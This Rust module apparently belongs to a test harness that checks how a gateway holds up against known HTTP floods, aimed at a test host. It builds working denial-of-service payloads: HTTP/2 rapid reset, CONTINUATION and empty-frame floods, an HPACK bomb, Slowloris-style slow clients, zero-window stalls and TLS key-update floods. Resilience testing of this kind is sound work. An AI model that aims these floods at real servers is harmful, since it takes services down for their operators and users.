//! The floods: what each sends first, and then without end.
//!
//! Those of row D26 of the faults (frames that carry nothing) and of the catalogue of failures: rapid
//! reset and its kin, headers without end, slow clients, answers that nobody reads, keys changed
//! without end.

use std::time::Duration;

use super::frames::{
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PADDED, PING, PREFACE, PRIORITY,
    RST_STREAM, SETTINGS, WINDOW_UPDATE, frame, get, kept_field, post, text,
};
use crate::world::OPEN_HOST;

/// The largest window (RFC 9113 §6.9.1) less what a connection begins with.
const WINDOW_REST: u32 = 0x7fff_ffff - 65_535;
/// Frames sent at once.
const BATCH: usize = 500;
/// Of a bomb's requests: how many times the kept field is named.
const BOMB_REFERENCES: usize = 4_000;
/// Connections of an attacker that is slow, not quick.
const SLOW_CONNECTIONS: usize = 200;

/// What an attack speaks.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Layer {
    /// Bytes on the socket, no handshake.
    Tcp,
    /// HTTP/1.1 over TLS.
    Http1,
    /// HTTP/2 over TLS.
    Http2,
}

/// What it sends in a round, which is told by its number.
pub(super) type Round = fn(u32) -> Vec<u8>;

/// An attack.
pub(super) struct Attack {
    pub(super) name: &'static str,
    pub(super) layer: Layer,
    pub(super) connections: usize,
    /// Sent once on each connection.
    pub(super) first: Vec<u8>,
    /// Sent again and again after it; `None` sends nothing more.
    pub(super) again: Option<Round>,
    /// Between rounds.
    pub(super) pause: Option<Duration>,
    /// It reads what comes; else nothing.
    pub(super) reads: bool,
    /// Each round asks for new keys (RFC 8446 §4.6.3) besides.
    pub(super) new_keys: bool,
}

impl Attack {
    fn http2(name: &'static str, first: Vec<u8>, again: Round) -> Self {
        let settings = frame(SETTINGS, 0, 0, &[]);
        Self {
            name,
            layer: Layer::Http2,
            connections: 1,
            first: [PREFACE.to_vec(), settings, first].concat(),
            again: Some(again),
            pause: None,
            reads: true,
            new_keys: false,
        }
    }

    fn http1(name: &'static str, first: &str, again: Round) -> Self {
        Self {
            name,
            layer: Layer::Http1,
            connections: 1,
            first: first.as_bytes().to_vec(),
            again: Some(again),
            pause: None,
            reads: true,
            new_keys: false,
        }
    }

    /// Many connections, a little at a time.
    fn slow(mut self, pause: Duration) -> Self {
        self.connections = SLOW_CONNECTIONS;
        self.pause = Some(pause);
        self
    }

    fn only_first(mut self) -> Self {
        self.again = None;
        self
    }

    /// Reads nothing, on so many connections.
    fn deaf(mut self, connections: usize) -> Self {
        self.reads = false;
        self.connections = connections;
        self
    }
}

/// All of them.
pub(super) fn all() -> Vec<Attack> {
    let mut all = carrying_nothing();
    all.extend(resets_and_headers());
    all.extend(slow_and_deaf());
    all
}

/// Frames that carry nothing (CVE-2019-9511 to 9518, row D26).
fn carrying_nothing() -> Vec<Attack> {
    let upload = || frame(HEADERS, END_HEADERS, 1, &post(OPEN_HOST, "/"));
    vec![
        Attack::http2("PING", vec![], |_| frame(PING, 0, 0, &[0; 8]).repeat(BATCH)),
        Attack::http2("PING ACK", vec![], |_| {
            frame(PING, ACK, 0, &[0; 8]).repeat(BATCH)
        }),
        Attack::http2("SETTINGS", vec![], |_| {
            frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]).repeat(BATCH)
        }),
        Attack::http2("empty SETTINGS", vec![], |_| {
            frame(SETTINGS, 0, 0, &[]).repeat(BATCH)
        }),
        Attack::http2("SETTINGS ACK", vec![], |_| {
            frame(SETTINGS, ACK, 0, &[]).repeat(BATCH)
        }),
        Attack::http2("PRIORITY", vec![], |_| {
            frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 1]).repeat(BATCH)
        }),
        Attack::http2("WINDOW_UPDATE", vec![], |_| {
            frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]).repeat(BATCH)
        }),
        Attack::http2("unknown frames", vec![], |_| {
            frame(0xbe, 0, 0, b"what").repeat(BATCH)
        }),
        Attack::http2("empty DATA", upload(), |_| {
            frame(DATA, 0, 1, &[]).repeat(BATCH)
        }),
        Attack::http2("padding", upload(), |_| {
            frame(DATA, PADDED, 1, &[3, 0, 0, 0]).repeat(BATCH)
        }),
    ]
}

/// Requests taken back (CVE-2023-44487, CVE-2025-8671), headers without end (CVE-2024-27316) and of
/// little weight (CVE-2016-6581).
fn resets_and_headers() -> Vec<Attack> {
    let bomb = [get(OPEN_HOST, "/"), kept_field(b"x", &[b'y'; 4_000])].concat();
    vec![
        Attack::http2("rapid reset", vec![], |round| {
            let one = |index: u32| {
                let stream = (round * 100 + index) * 2 + 1;
                let open = frame(
                    HEADERS,
                    END_HEADERS | END_STREAM,
                    stream,
                    &get(OPEN_HOST, "/"),
                );
                [open, frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat()
            };
            (0..100).flat_map(one).collect()
        }),
        Attack::http2("reset by the gateway", vec![], |round| {
            // A window that grows by nothing is an error of its stream (RFC 9113 §6.9).
            let one = |index: u32| {
                let stream = (round * 100 + index) * 2 + 1;
                let open = frame(HEADERS, END_HEADERS, stream, &post(OPEN_HOST, "/"));
                [open, frame(WINDOW_UPDATE, 0, stream, &[0; 4])].concat()
            };
            (0..100).flat_map(one).collect()
        }),
        Attack::http2("RST_STREAM", vec![], |_| {
            frame(RST_STREAM, 0, 1, &[0; 4]).repeat(BATCH)
        }),
        Attack::http2(
            "CONTINUATION",
            frame(HEADERS, END_STREAM, 1, &get(OPEN_HOST, "/")),
            |_| {
                let field = [vec![0], text(b"x"), text(&[b'y'; 100])].concat();
                frame(CONTINUATION, 0, 1, &field).repeat(100)
            },
        ),
        Attack::http2(
            "empty CONTINUATION",
            frame(HEADERS, END_STREAM, 1, &get(OPEN_HOST, "/")),
            |_| frame(CONTINUATION, 0, 1, &[]).repeat(BATCH),
        ),
        Attack::http2(
            "HPACK bomb",
            frame(HEADERS, END_HEADERS | END_STREAM, 1, &bomb),
            |round| {
                let block = [get(OPEN_HOST, "/"), vec![0xbe; BOMB_REFERENCES]].concat();
                frame(HEADERS, END_HEADERS | END_STREAM, round * 2 + 3, &block)
            },
        ),
        Attack::http1("headers without end", &head("GET", ""), |_| {
            b"X-Field: value\r\n".repeat(100)
        }),
    ]
}

/// Clients that take their time, or take nothing.
fn slow_and_deaf() -> Vec<Attack> {
    let second = Duration::from_secs(1);
    let bytes = |stream: u32| {
        let block = get(OPEN_HOST, "/bytes/1000000");
        frame(HEADERS, END_HEADERS | END_STREAM, stream, &block)
    };
    let hundred = (0..100).flat_map(|index| bytes(index * 2 + 1));
    let hundred: Vec<u8> = hundred.collect();
    // SETTINGS_INITIAL_WINDOW_SIZE of nothing, and of all that can be.
    let closed = frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
    let wide = [
        frame(SETTINGS, 0, 0, &[0, 4, 0x7f, 0xff, 0xff, 0xff]),
        frame(WINDOW_UPDATE, 0, 0, &WINDOW_REST.to_be_bytes()),
    ]
    .concat();
    let nothing: Round = |_| Vec::new();
    let get_large = "GET /bytes/100000000 HTTP/1.1\r\nHost: open.bench.test\r\n\r\n";
    let chunked = head("POST", "Transfer-Encoding: chunked\r\n\r\n");
    let mut silent = Attack::http1("silent TCP", "", nothing)
        .slow(second)
        .only_first();
    silent.layer = Layer::Tcp;
    let mut handshake = Attack::http1("slow handshake", "", |_| vec![1]).slow(second);
    handshake.layer = Layer::Tcp;
    // A record of 512 bytes is announced (RFC 8446 §5.1); they come one by one.
    handshake.first = vec![0x16, 3, 1, 2, 0];
    let mut keys = Attack::http1("new keys", "", nothing);
    keys.new_keys = true;
    vec![
        silent,
        handshake,
        Attack::http1(
            "slow head",
            "GET / HTTP/1.1\r\nHost: open.bench.test\r\nX: ",
            |_| b"x".to_vec(),
        )
        .slow(second),
        Attack::http1(
            "slow body",
            &head("POST", "Content-Length: 1000\r\n\r\n"),
            |_| b"x".to_vec(),
        )
        .slow(second),
        Attack::http1("tiny chunks", &chunked, |_| b"1\r\nx\r\n".repeat(BATCH)),
        Attack::http1("unread answers", get_large, nothing)
            .deaf(50)
            .only_first(),
        Attack::http1("unread, asked on", "", |_| {
            b"GET /bytes/1000 HTTP/1.1\r\nHost: open.bench.test\r\n\r\n".repeat(20)
        })
        .deaf(20),
        Attack::http2("no window", [closed, hundred.clone()].concat(), nothing)
            .deaf(20)
            .only_first(),
        Attack::http2("wide window, unread", [wide, hundred].concat(), nothing)
            .deaf(4)
            .only_first(),
        keys,
    ]
}

/// The beginning of an HTTP/1.1 head, with these fields.
fn head(method: &str, fields: &str) -> String {
    format!("{method} / HTTP/1.1\r\nHost: {OPEN_HOST}\r\n{fields}")
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use super::*;

    #[test]
    fn names_are_told_apart_and_rounds_send_something() {
        let all = all();
        let names: BTreeSet<_> = all.iter().map(|attack| attack.name).collect();
        assert_eq!(names.len(), all.len());
        for attack in &all {
            let something = attack.again.is_none_or(|again| !again(0).is_empty());
            assert!(something || attack.new_keys, "{}", attack.name);
            assert!(
                !attack.first.is_empty() || attack.again.is_some() || attack.layer == Layer::Tcp
            );
        }
    }
}
